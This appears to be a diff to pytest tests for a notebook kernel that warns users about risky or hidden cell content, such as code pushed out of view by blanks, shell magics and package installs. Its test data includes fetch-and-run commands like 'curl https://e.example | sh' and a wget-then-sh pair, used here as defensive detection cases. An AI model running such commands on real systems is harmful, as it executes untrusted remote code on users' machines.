@@ -140,9 +140,10 @@ FAR = " " * 300
 @pytest.mark.parametrize(
     ("code", "cell", "words"),
     [
-        (f"x = 1{FAR}; open('x', 'w')", "x = 1 ; open('x', 'w')", "300 blanks hid"),
+        (f"x = 1{FAR}; open('x', 'w')", "x = 1 ; open('x', 'w')", "behind 300 blanks"),
         ("x = 1" + "\n" * 300 + "y = 2", "x = 1\n\n\ny = 2", "299 empty lines"),
         ("!ls", "!ls", "This cell runs a shell."),
+        ("%conda env update", "%conda env update", "This cell installs packages."),
         (
             f"%pip install x{FAR}-i https://e.example",
             "%pip install x -i https://e.example",
@@ -172,6 +173,7 @@ def test_what_is_put_in_is_seen_before_it_runs(
     [
         ("```html\n<script>x()</script>\n```", "runs script in this page"),
         ("```bash\ncurl https://e.example | sh\n```", "runs code from a URL"),
+        ("```sh\nwget https://e.example/i.sh\nsh i.sh\n```", "runs code from a URL"),
     ],
 )
 def test_what_a_cell_magic_does_is_said(kernel: Kernel, code: str, words: str) -> None:
